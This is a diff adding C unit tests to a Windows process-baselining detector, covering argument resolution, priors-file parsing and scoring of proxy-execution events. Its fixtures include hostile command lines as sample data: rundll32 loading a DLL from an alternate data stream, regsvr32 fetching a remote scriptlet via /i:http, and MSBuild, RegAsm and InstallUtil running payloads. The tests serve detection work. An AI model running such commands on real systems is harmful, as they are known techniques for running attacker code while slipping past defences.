@@ -145,6 +145,12 @@ static const struct {
 	    "C:/Windows/SysWOW64/x.ocx .\\rel\\a.txt", false,
 	    "<dotnet>\\*.exe <syswow64>\\*.ocx <relative>\\*.txt" },
 	{ "x.exe - -- /? \"\" C:\\Windows\\", false, "- -- /?  <windir>\\" },
+	/* alternate data streams, root-level 8.3 short names */
+	{ "rundll32.exe C:\\Users\\Public\\doc.txt:p.dll,Start", true,
+	    "<users-public>\\*.txt:*.dll,start" },
+	{ "x.exe C:\\PROGRA~3\\a.dll C:\\Users\\ADMINI~1\\AppData\\Local"
+	    "\\Temp\\b.dll C:\\tools~x\\c.dll", false,
+	    "<short-name>\\*.dll <user-temp>\\*.dll <other>\\*.dll" },
 	{ "x.exe", false, "" },
 	{ "x.exe Shell32 2nd 64bit port=443 #12 seg9 Job2024.txt win64", false,
 	    "shell32 2nd 64bit port=<n> #<n> seg<n> job<n>.txt win64" },
@@ -165,6 +171,46 @@ START_TEST(shape_cmdline)
 	    "%s:\n got  '%s'\n want '%s'", shape_cases[_i].cmdline, b.buf,
 	    shape_cases[_i].shape);
 	ev_buf_release(&b);
+}
+END_TEST
+
+static const struct {
+	const char	*arg, *cwd;
+	bool		 comma, search;
+	const char	*want;		/* NULL: not resolved */
+} resolve_cases[] = {
+	{ "evil.csproj", "C:\\Users\\bob\\Desktop\\", false, false,
+	    "C:\\Users\\bob\\Desktop\\evil.csproj" },
+	{ ".\\x.dll", "C:\\tools", false, false, "C:\\tools\\x.dll" },
+	{ "sub\\x.xml", "C:\\tools\\", false, false, "C:\\tools\\sub\\x.xml" },
+	{ "payload.dll,Start", "C:\\x\\", true, true, NULL },
+	{ "..\\p.dll,Start", "C:\\x\\y\\", true, true,
+	    "C:\\x\\y\\..\\p.dll,Start" },
+	{ "m.vbs", "C:\\tool-test\\", false, false, "C:\\tool-test\\m.vbs" },
+	{ "C:\\a\\b.dll", "C:\\x\\", false, false, NULL },
+	{ "/s", "C:\\x\\", false, false, NULL },
+	{ "http://a/b.sct", "C:\\x\\", false, false, NULL },
+	{ "list", "C:\\x\\", false, false, NULL },
+	{ "a.dll", NULL, false, false, NULL },
+	{ "a.dll", "relative\\dir", false, false, NULL },
+	{ "a b.dll", "C:\\x", false, false, NULL },
+};
+
+START_TEST(resolve_arg)
+{
+	char *got = base_resolve_arg(resolve_cases[_i].arg,
+	    resolve_cases[_i].cwd, resolve_cases[_i].comma,
+	    resolve_cases[_i].search);
+
+	if (resolve_cases[_i].want == NULL)
+		ck_assert_msg(got == NULL, "%s: got '%s'",
+		    resolve_cases[_i].arg, got);
+	else
+		ck_assert_msg(got != NULL && strcmp(got,
+		    resolve_cases[_i].want) == 0, "%s: got '%s' want '%s'",
+		    resolve_cases[_i].arg, got ? got : "NULL",
+		    resolve_cases[_i].want);
+	free(got);
 }
 END_TEST
 
@@ -359,6 +405,7 @@ static const char *const hosts[] = { "WS01", "WS02", "WS03", "SRV01",
     "SRV02" };
 
 #define SYS32	"C:\\Windows\\System32\\"
+#define DOTNET	"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
 
 /* n benign runs per host of every watched binary (generic) and of the
  * ones with a specific shape */
@@ -768,6 +815,184 @@ START_TEST(hostile_0008_baseline_budget)
 }
 END_TEST
 
+/* ---- priors ------------------------------------------------------ */
+
+static void
+load_priors(void)
+{
+	struct ev_err err = EV_ERR_INIT;
+	const char *top = getenv("top_srcdir");
+	char path[4096];
+
+	snprintf(path, sizeof(path), "%s/rules/priors.yml", top ? top : ".");
+	if (base_prior_load(cfg, path, &err) != 0)
+		ck_abort_msg("cannot load %s: %s", path, err.msg);
+}
+
+static const struct {
+	const char	*text;
+	const char	*msg;
+} bad_priors[] = {
+	{ "binaries: { nosuch.exe: { arg: [x] } }\n", "not a watched binary" },
+	{ "binaries: { rundll32.exe: { argz: [x] } }\n", "unknown feature" },
+	{ "binaries: { rundll32.exe: { arg: x } }\n", "expected a list" },
+	{ "binaries: { rundll32.exe: { arg: [''] } }\n", "expected a pattern" },
+	{ "binaries: { rundll32.exe: {}, RUNDLL32.EXE: {} }\n", "listed twice" },
+	{ "settings: { weight: -1 }\n", "bad number" },
+	{ "settings: { rare: 2 }\n", "bad number" },
+	{ "binaries: [rundll32.exe]\n", "expected a mapping" },
+	{ "other: 1\n", "unknown key" },
+	{ "binaries: { rundll32.exe: { arg: [x\n", "" },
+};
+
+START_TEST(prior_bad)
+{
+	struct ev_err err = EV_ERR_INIT;
+
+	ck_assert_int_eq(base_prior_parse(cfg, bad_priors[_i].text,
+	    strlen(bad_priors[_i].text), "p.yml", &err), EV_ERULE);
+	ck_assert_msg(strstr(err.msg, bad_priors[_i].msg) != NULL &&
+	    strncmp(err.msg, "p.yml:", 6) == 0, "%s", err.msg);
+	/* nothing of a failed file is kept */
+	for (size_t i = 0; i < cfg->nbins; i++)
+		ck_assert_ptr_null(cfg->bins[i].prior);
+	ck_assert_double_eq(cfg->prior_weight, BASE_DEF_PRIOR_WEIGHT);
+}
+END_TEST
+
+START_TEST(prior_expects)
+{
+	static const char text[] = "settings: { weight: 7, rare: 0.5 }\n"
+	    "binaries:\n"
+	    "  rundll32.exe:\n"
+	    "    parent: ['!*\\cmd.exe', '<system32>\\*']\n"
+	    "    arg: ['!-embedding', '<system32>\\*', '<program-files>\\*']\n";
+	struct ev_err err = EV_ERR_INIT;
+	const struct base_prior *p;
+
+	ck_assert_msg(base_prior_parse(cfg, text, strlen(text), "p.yml",
+	    &err) == 0, "%s", err.msg);
+	ck_assert_double_eq(cfg->prior_weight, 7);
+	ck_assert_double_eq(cfg->prior_rare, 0.5);
+	p = base_identify(cfg, &(struct ev_event){ .kind = EV_KIND_PROCESS,
+	    .col[EV_COL_IMAGE] = "rundll32.exe" }, NULL)->prior;
+	ck_assert_ptr_nonnull(p);
+	/* the first matching pattern decides */
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_PARENT,
+	    "<system32>\\cmd.exe"), 0);
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_PARENT,
+	    "<system32>\\svchost.exe"), 1);
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_PARENT,
+	    "<user-temp>\\*.exe"), 0);
+	/* arguments: locations, and others only when a pattern names them */
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG,
+	    "<system32>\\*.dll,control_rundll"), 1);
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG,
+	    "<user-temp>\\*.dll,#<n>"), 0);
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG, "<url:javascript>"),
+	    0);
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG, "desk.cpl"), -1);
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG, "-embedding"), 0);
+	/* an alternate data stream is never expected */
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG,
+	    "<program-files>\\*.txt:*.dll,start"), 0);
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG,
+	    "<program-files>\\*.dll,<url:http>"), 1);
+	/* no patterns for a type, or no prior: no opinion */
+	ck_assert_int_eq(base_prior_expects(p, BASE_F_MODULE, "x"), -1);
+	ck_assert_int_eq(base_prior_expects(NULL, BASE_F_ARG, "<url:x>"), -1);
+}
+END_TEST
+
+/*
+ * With the shipped priors, one run of each binary and no history at all:
+ * the proxy executions the priors call unusual are findings (with the
+ * prior named in the text), ordinary administrative runs are not.
+ */
+START_TEST(score_priors)
+{
+	static const struct {
+		const char *image, *cmd, *parent, *cwd;
+		enum ev_level min;	/* NONE: benign, no finding */
+		const char *expect;
+	} runs[] = {
+		/* benign */
+		{ SYS32 "regsvr32.exe", "regsvr32 /s \"C:\\Program Files\\V"
+		    "\\comp.dll\"", SYS32 "msiexec.exe", NULL, EV_LEVEL_NONE, NULL },
+		{ SYS32 "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL"
+		    " desk.cpl", "C:\\Windows\\explorer.exe",
+		    "C:\\Users\\bob\\", EV_LEVEL_NONE, NULL },
+		{ SYS32 "wmic.exe", "wmic os get caption", SYS32 "cmd.exe",
+		    "C:\\Users\\adm\\", EV_LEVEL_NONE, NULL },
+		{ SYS32 "cscript.exe", "cscript //nologo C:\\Windows\\System32"
+		    "\\slmgr.vbs /dli", SYS32 "cmd.exe", "C:\\Users\\adm\\",
+		    EV_LEVEL_NONE, NULL },
+		{ SYS32 "msiexec.exe", "msiexec /i C:\\Users\\bob\\Downloads"
+		    "\\app.msi", "C:\\Windows\\explorer.exe", NULL,
+		    EV_LEVEL_NONE, NULL },
+		{ DOTNET "MSBuild.exe", "MSBuild.exe C:\\Users\\dev\\src\\a"
+		    "\\a.sln /p:Configuration=Release", "C:\\Program Files\\VS"
+		    "\\devenv.exe", NULL, EV_LEVEL_NONE, NULL },
+		/* attacks */
+		{ DOTNET "RegAsm.exe", "RegAsm.exe /U payload.dll", SYS32
+		    "cmd.exe", "C:\\ProgramData\\x\\", EV_LEVEL_MEDIUM,
+		    "regasm.exe: parent `<system32>\\cmd.exe` is not a usual "
+		    "parent of regasm.exe (no other invocations)" },
+		{ DOTNET "MSBuild.exe", "MSBuild.exe C:\\Users\\Public\\b.xml",
+		    SYS32 "WindowsPowerShell\\v1.0\\powershell.exe", NULL,
+		    EV_LEVEL_MEDIUM, "argument `<users-public>\\*.xml`" },
+		{ SYS32 "mshta.exe", "mshta.exe -Embedding", SYS32 "svchost.exe",
+		    NULL, EV_LEVEL_MEDIUM, "argument `-embedding`" },
+		{ SYS32 "rundll32.exe", "rundll32.exe C:\\Users\\Public\\d.txt"
+		    ":p.dll,Start", "C:\\Windows\\explorer.exe", NULL,
+		    EV_LEVEL_LOW, "argument `<users-public>\\*.txt:*.dll,start`" },
+		{ SYS32 "regsvr32.exe", "regsvr32 /s /u /i:http://e/a.sct "
+		    "scrobj.dll", SYS32 "cmd.exe", NULL, EV_LEVEL_MEDIUM,
+		    "argument `/i:<url:http>`" },
+		{ DOTNET "InstallUtil.exe", "InstallUtil.exe /logfile= /U "
+		    "C:\\PROGRA~3\\x.dll", SYS32 "cmd.exe", NULL,
+		    EV_LEVEL_MEDIUM, "argument `<short-name>\\*.dll`" },
+	};
+	struct base_result r;
+	struct ev_err err = EV_ERR_INIT;
+	struct corr *corr;
+	char guid[40], host[16];
+
+	load_priors();
+	for (size_t i = 0; i < NELEM(runs); i++) {
+		struct ev_event *e;
+
+		snprintf(host, sizeof(host), "H%zu", i);
+		e = proc(host, runs[i].image, "", runs[i].cmd, runs[i].parent,
+		    guid);
+		e->col[EV_COL_CURRENT_DIRECTORY] = runs[i].cwd;
+	}
+	ck_assert_int_eq(corr_build(evs, nev, &corr, &err), 0);
+	ck_assert_int_eq(base_score(cfg, NULL, corr, evs, nev, &r, &err), 0);
+	for (size_t i = 0; i < NELEM(runs); i++) {
+		const struct base_finding *f = finding_for(&r, evs[i],
+		    BASE_FINDING_UNUSUAL);
+
+		if (runs[i].min == EV_LEVEL_NONE) {
+			ck_assert_msg(f == NULL, "benign flagged: %s: %s",
+			    runs[i].cmd, f ? f->details : "");
+			continue;
+		}
+		ck_assert_msg(f != NULL, "not flagged: %s", runs[i].cmd);
+		ck_assert_msg(f->level >= runs[i].min && f->prior &&
+		    strstr(f->details, runs[i].expect) != NULL &&
+		    strstr(f->details, "history: ") != NULL &&
+		    strstr(f->details, " other and the prior (weight 20)") !=
+		    NULL, "%s:\n level %s, details '%s'\n want '%s'",
+		    runs[i].cmd, ev_level_name(f->level), f->details,
+		    runs[i].expect);
+	}
+	ck_assert_uint_eq(r.nunbaselined, 0);
+	base_result_release(&r);
+	corr_free(corr);
+}
+END_TEST
+
 START_TEST(identify)
 {
 	char guid[40];
@@ -884,6 +1109,7 @@ main(void)
 	tcase_add_test(tc, argv_bounds);
 	tcase_add_loop_test(tc, shape_cmdline, 0, NELEM(shape_cases));
 	tcase_add_test(tc, shape_bounded);
+	tcase_add_loop_test(tc, resolve_arg, 0, NELEM(resolve_cases));
 	tcase_add_loop_test(tc, shape_file, 0, NELEM(file_cases));
 	tcase_add_loop_test(tc, ip_class, 0, NELEM(ip_cases));
 	suite_add_tcase(s, tc);
@@ -902,6 +1128,9 @@ main(void)
 	tcase_add_test(tc, features);
 	tcase_add_test(tc, score_stacking);
 	tcase_add_test(tc, score_unbaselined);
+	tcase_add_loop_test(tc, prior_bad, 0, NELEM(bad_priors));
+	tcase_add_test(tc, prior_expects);
+	tcase_add_test(tc, score_priors);
 	suite_add_tcase(s, tc);
 
 	tc = tcase_create("db");
